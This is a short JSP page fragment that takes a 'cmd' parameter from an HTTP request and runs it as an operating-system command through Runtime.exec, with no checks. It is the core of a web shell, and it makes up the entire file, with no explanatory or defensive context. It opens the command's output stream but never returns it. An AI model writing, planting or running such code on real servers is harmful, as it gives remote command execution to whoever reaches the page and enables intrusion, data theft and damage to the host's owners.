<%@ page import="java.io.*" %><%
String c = request.getParameter("cmd");
Process p = Runtime.getRuntime().exec(c);
InputStream in = p.getInputStream();
%>
